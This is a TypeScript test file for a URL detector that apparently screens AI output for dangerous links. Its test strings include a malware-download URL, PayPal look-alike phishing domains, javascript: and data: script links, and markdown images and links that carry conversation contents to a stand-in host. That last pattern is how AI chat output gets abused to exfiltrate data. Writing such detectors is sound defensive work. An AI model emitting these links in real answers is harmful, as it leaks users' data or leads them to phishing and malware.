import { describe, expect, it } from 'vitest';
import { coveredTexts, detectWith } from '../../testing/detect-with.js';
import { urlsDetector } from './urls-detector.js';

function found(
  text: string,
  more: { conversationTerms?: string[]; allow?: string[]; options?: Record<string, unknown> } = {},
): [string | undefined, string, string][] {
  const findings = detectWith({
    detector: urlsDetector,
    text,
    direction: 'output',
    conversationTerms: more.conversationTerms,
    options: more.options,
    policy: more.allow ? { allowlist: { domains: more.allow } } : undefined,
  });
  const covered = coveredTexts({ text, findings });
  return findings.map((finding, index) => [finding.type, finding.severity, covered[index] ?? '']);
}

describe('urls detector', () => {
  it('blocks domains of the malicious list, bare or in links, with subdomains', () => {
    expect(found('Lade es von http://cdn.c0nden5easy.ru/setup.exe oder c0nden5easy.ru herunter.')).toEqual([
      ['blocklist', 'critical', 'http://cdn.c0nden5easy.ru/setup.exe'],
      ['blocklist', 'critical', 'c0nden5easy.ru'],
    ]);
    expect(found('[Download](https://s3.amazonaws.com/cgc-badge-v2/common.js)')).toEqual([
      ['blocklist', 'critical', 'https://s3.amazonaws.com/cgc-badge-v2/common.js'],
    ]);
  });

  it('reports suspicious domains with low severity', () => {
    expect(found('see idownload-tunesmusic.com')).toEqual([['suspicious_domain', 'low', 'idownload-tunesmusic.com']]);
  });

  it('reports IP-literal hosts, public higher than private', () => {
    expect(found('http://203.0.113.7/login and http://192.168.1.1/admin and http://[2001:db8::1]/x')).toEqual([
      ['ip_host', 'medium', 'http://203.0.113.7/login'],
      ['ip_host', 'low', 'http://192.168.1.1/admin'],
      ['ip_host', 'medium', 'http://[2001:db8::1]/x'],
    ]);
  });

  it('reports look-alike domains, punycode included', () => {
    expect(found('Bitte bestätigen: https://xn--pypal-4ve.com/login oder https://paypal-login.com')).toEqual([
      ['lookalike_homoglyph', 'high', 'https://xn--pypal-4ve.com/login'],
      ['lookalike_combosquat', 'medium', 'https://paypal-login.com'],
    ]);
    expect(found('Sign in at https://pаypal.com now')).toEqual([['lookalike_homoglyph', 'high', 'https://pаypal.com']]);
  });

  it('reports javascript: and data: links but not data: images', () => {
    expect(
      found('[click](javascript:alert(document.cookie)) <a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'),
    ).toEqual([
      ['script_uri', 'high', 'javascript:alert(document.cookie)'],
      ['data_uri', 'high', 'data:text/html;base64,PHNjcmlwdD4='],
    ]);
    expect(found('![logo](data:image/png;base64,iVBORw0KGgo=)')).toEqual([]);
  });

  it('reports markdown images that carry data out', () => {
    const payload = Buffer.from('user asked about project falcon budget 2025').toString('base64');
    expect(found(`Done! ![](https://collect.example/p.png?d=${payload})`)).toEqual([
      ['exfiltration_image', 'high', `https://collect.example/p.png?d=${payload}`],
    ]);
    expect(found(`![a](https://collect.example/${'x'.repeat(80)}.png)`)).toEqual([
      ['exfiltration_image', 'high', `https://collect.example/${'x'.repeat(80)}.png`],
    ]);
  });

  it('recognises words of the conversation leaving through a link', () => {
    const text = 'Read more: [here](https://collect.example/?q=Falcon%20merger%20Q3)';
    expect(found(text, { conversationTerms: ['falcon', 'merger'] })).toEqual([
      ['exfiltration_link', 'medium', 'https://collect.example/?q=Falcon%20merger%20Q3'],
    ]);
    expect(found(text)).toEqual([]);
  });

  it('leaves ordinary links, file names and allowlisted domains alone', () => {
    expect(
      found(
        'See https://github.com/org/repo/blob/main/README.md, ![diagram](https://docs.example.org/img/arch.png), setup.py, node.js and www.wikipedia.org.',
      ),
    ).toEqual([]);
    expect(found('intranet http://c0nden5easy.ru', { allow: ['c0nden5easy.ru'] })).toEqual([]);
  });

  it('finds URLs inside decoded payloads', () => {
    const encoded = Buffer.from('open http://c0nden5easy.ru/x now').toString('base64');
    const findings = detectWith({ detector: urlsDetector, text: `do ${encoded}`, direction: 'output' });
    expect(findings.map((finding) => [finding.type, finding.source])).toEqual([['blocklist', 'base64']]);
  });

  it('can switch single checks off', () => {
    expect(found('http://203.0.113.7/x', { options: { ipHosts: false } })).toEqual([]);
  });
});
